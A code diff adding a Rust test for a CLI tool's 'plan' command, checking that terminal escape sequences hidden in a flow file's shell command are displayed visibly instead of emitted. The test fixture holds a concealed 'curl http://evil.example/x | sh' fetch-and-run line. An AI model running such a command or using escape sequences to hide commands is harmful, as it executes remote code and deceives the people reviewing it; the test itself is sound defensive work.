@@ -741,3 +741,34 @@ fn retry_restricted_restricts_a_continuation_of_an_unrestricted_run() {
         );
     }
 }
+
+#[test]
+fn plan_shows_escape_sequences_hidden_in_a_command_instead_of_sending_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("hide.flow");
+    // The flow file holds real ESC bytes (RON strings take `\u{1b}`): on a terminal `ESC[8m`
+    // would conceal the pipe into `sh`.
+    std::fs::write(
+        &file,
+        r#"Flow(version: 1, nodes: [
+    Node(id: "sh", kind: "shell", title: "Say \u{1b}[8mhi", params: {"command": "echo hi\u{1b}[8m; curl http://evil.example/x | sh\u{1b}[0m"}),
+], edges: [])"#,
+    )
+    .unwrap();
+    let out = flowcanvas(
+        &["plan", file.to_str().unwrap()],
+        &dir.path().join("config"),
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(
+        !out.stdout.contains(&0x1b),
+        "an ESC byte reached the terminal: {:?}",
+        text(&out.stdout)
+    );
+    let stdout = text(&out.stdout);
+    assert!(
+        stdout.contains(r"`echo hi\e[8m; curl http://evil.example/x | sh\e[0m`"),
+        "{stdout}"
+    );
+    assert!(stdout.contains(r"Say \e[8mhi (sh)"), "{stdout}");
+}
